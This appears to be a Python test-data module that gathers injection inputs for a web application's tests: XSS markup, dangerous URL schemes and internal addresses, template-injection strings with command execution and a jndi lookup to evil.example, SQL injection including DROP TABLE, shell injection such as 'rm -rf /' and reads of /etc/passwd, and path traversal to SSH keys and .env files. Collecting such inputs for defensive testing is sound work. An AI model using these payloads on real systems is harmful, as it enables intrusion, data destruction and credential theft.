"""Markup, addresses and the languages of programs: what becomes more than text where somebody forgets to say so."""

from __future__ import annotations

from tests.campaigns.common.test_markup import PAYLOADS
from tests.texts.rows import Row, rows_of

MARKUP = (
    "<svg><script>alert&#40;1&#41;</script>", "<img src=x onerror=&#97;lert(1)>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<isindex action=javascript:alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<marquee onstart=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<textarea></textarea><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">", "<form><button formaction=javascript:alert(1)>x", "<input type=image src=x onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<audio src=x onerror=alert(1)>", "<embed src=javascript:alert(1)>", "<frameset onload=alert(1)>", "<table background=javascript:alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">", "<div style=\"width:expression(alert(1))\">", "<link rel=stylesheet href=//evil/x.css>", "<script src=//evil/x.js></script>",
    "<script>/*</script><script>*/alert(1)</script>", "<script\\x20type=text/javascript>alert(1);</script>", "<%<!--'%><script>alert(1);</script -->", "\"><svg onload=alert(1)//",
    "'-alert(1)-'", "\\\"-alert(1)//", "`-alert(1)-`", "${alert(1)}", "#{alert(1)}", "[[constructor.constructor('alert(1)')()]]", "<x onclick=alert(1)>click", "<a hx-get=//evil hx-trigger=load>",
    "<div hx-vals='js:{x: alert(1)}'>", "<div data-hx-get=//evil data-hx-trigger=load>", "<p hx-swap-oob=true id=desk>gone</p>", "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "<title>Another page</title>", "<body id=desk>", "<dialog open>Sign in again</dialog>", "<plaintext>", "<!DOCTYPE html>", "<?xml version=\"1.0\"?>", "<!-- a comment", "--!><b>", "<![CDATA[<b>x</b>]]>",
    "&lt;b&gt;already escaped&lt;/b&gt;", "&amp;amp;", "&#60;script&#62;", "&notanentity;", "&#0;", "&#x110000;", "&#xD800;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-",
)  # fmt: skip
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "javascript://shop.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "file:///etc/passwd",
    "blob:https://shop.example/x", "//evil.example/x", "\\\\evil.example\\share", "https:evil.example", "https://shop.example@evil.example/", "https://evil.example#@shop.example", "http://127.0.0.1:6379/",
    "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:25/_HELO", "dict://127.0.0.1:11211/stats", "ldap://evil.example/a",
    "ftp://evil.example/x", "jar:http://evil.example!/x", "ws://evil.example", "mailto:a@example.com?bcc=b@example.com", "tel:+1;phone-context=evil", "sms:+1?body=x", "intent://x#Intent;end", "about:blank", "view-source:x", "http://еvil.example/", "http://xn--80ak6aa92e.com/",
)  # fmt: skip
TEMPLATES = (
    "{{ settings.SECRET_KEY }}", "{{ request.user.password }}", "{% debug %}", "{% load log %}{% get_admin_log 9 as log %}", "{% csrf_token %}", "{{ 7|add:7 }}", "{{7*'7'}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config.items()}}", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}", "{%raw%}{{x}}{%endraw%}", "{# a comment #}", "{{", "}}", "{%", "%}", "{{{x}}}", "{{=<% %>=}}", "<%= 7*7 %>",
    "<% system('id') %>", "<?php phpinfo(); ?>", "<?= 7*7 ?>", "${7*7}", "#{7*7}", "*{7*7}", "@{7*7}", "~{7*7}", "${{7*7}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil/a}",
    "#set($x=7*7)${x}", "<#assign x=7*7>${x}", "{php}echo 7*7;{/php}", "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "[[${7*7}]]", "@(7*7)", "@Model", "|*NAME*|", "*|FNAME|*", "%%NAME%%", "[[NAME]]", "<<NAME>>", "{$name}", "$name", "$(name)", "!{x}",
)  # fmt: skip
QUERIES = (
    "'", "''", "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "') OR ('1'='1", "'; DROP TABLE campaigns_product; --", "'; DELETE FROM auth_user WHERE 1=1; --", "1; SELECT pg_sleep(9)", "1' AND SLEEP(9)#", "' UNION SELECT NULL,NULL,NULL --",
    "' UNION SELECT password FROM campaigns_user --", "admin'--", "admin' #", "admin'/*", "1/**/OR/**/1=1", "'||(SELECT 1)||'", "$$; SELECT 1; $$", "E'\\047 OR 1=1'", "COPY x TO PROGRAM 'id'", "ATTACH DATABASE 'x' AS y", "PRAGMA journal_mode=OFF",
    "load_extension('x')", "%' --", "%_%", "\\%", "_", "[0-9]%", "* OR title:*", "title:(a AND", "\"a\" NEAR/9 \"b\"", "a* OR b*", "{title} : x", "^a", "NOT", "AND", "(", "a)b", "\"", "\"\"\"", "-a", "a:b", "$ne", "{\"$gt\": \"\"}", "{\"$where\": \"sleep(9)\"}", "*)(uid=*))(|(uid=*", "' or count(/child::node())=1 or ''='", "x' or name()='y",
)  # fmt: skip
SHELL = (
    "; id", "| id", "|| id", "& id", "&& id", "`id`", "$(id)", "$((7*7))", "; rm -rf / --no-preserve-root", "$(touch /tmp/x)", "`touch /tmp/x`", "> /etc/passwd", "< /etc/passwd", "2>&1", "; cat /etc/passwd #", "\n id \n", "%0a id", "$IFS$9id", "{cat,/etc/passwd}",
    "cat${IFS}/etc/passwd", "~root", "*", "?", "!!", "!$", "\\", "\\\\", "'; id; '", "\"; id; \"", "() { :; }; id", "--help", "--version", "-rf", "-oProxyCommand=id", "--upload-pack=id", "-", "--", "@/etc/passwd", "%COMSPEC%", "%PATH%", "& calc.exe &", "powershell -enc SQBFAFgA", "cmd /c calc", "import os; os.system('id')", "__import__('os').system('id')",
    "eval('1+1')", "require('child_process').exec('id')", "system('id')", "pickle.loads(b'cos\\nsystem\\n')", "!!python/object/apply:os.system ['id']", "cos\nsystem\n(S'id'\ntR.",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "..%252f..%252fetc", "%2e%2e%2f", "..;/", "/etc/passwd", "C:\\Windows\\System32", "\\\\?\\C:\\x", "file.csv/../../x", "./x", "x/.", "..", ".", "/", "//", "\\", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "nul.txt", "con.csv",
    ".htaccess", ".env", ".git/config", "~/.ssh/id_rsa", "/proc/self/environ", "/dev/null", "/dev/random", "x" * 255, "x.csv.exe", "x.csv%00.exe", "a:b", "a::$DATA", "a|b", "a?b", "a*b", "trailing.", "trailing ", "-rf.csv", "‥/‥/etc", "．．／etc",
)  # fmt: skip
FORMATS = (
    "%s%s%s%s%s", "%n%n%n%n", "%x %x %x", "%d", "%(title)s", "%(password)s", "%1$s", "%99999d", "%.9999f", "%%", "%", "100 % sure", "{0}", "{}", "{title}", "{0.__class__}", "{0.__init__.__globals__}", "{title!r}", "{:>99999}", "{0[0]}", "{{}}", "{", "}", "$title", "${title}", "$$", "\\1", "\\g<0>", "\\0", "$1", "$&", "\\N{BULLET}", "\\u0000", "\\x00", "\\", "\\n", "%0a%0d", "%u0041", "~a", "{count, plural, one{x} other{y}}",
)  # fmt: skip
PATTERNS = (
    "(a+)+$", "(a|aa)+$", "([a-zA-Z]+)*$", "(.*a){20}", "^(([a-z])+.)+[A-Z]([a-z])+$", "((a{0,99}){0,99}){0,99}", "(?=(a+))a*b\\1", "(?P<x", "[", "[a-", "(", ")", "*", "+", "?", "{9", "a{99999}", "\\", "(?#", "(?i", "\\p{L}", "[[:alpha:]]", "a" * 99 + "!", "(?<!a)b", "(*VERB)", ".*.*.*.*x",
)  # fmt: skip


def markup_rows() -> list[Row]:
    """All of them."""
    kept = [text for text in PAYLOADS if "\u202e" not in text]
    return [
        *rows_of("markup", kept),
        *rows_of("markup", [text for text in PAYLOADS if text not in kept], hides=True),
        *rows_of("markup", MARKUP),
        *rows_of("address", SCHEMES),
        *rows_of("template", TEMPLATES),
        *rows_of("query", QUERIES),
        *rows_of("shell", SHELL),
        *rows_of("path", PATHS),
        *rows_of("format", FORMATS),
        *rows_of("pattern", PATTERNS),
    ]
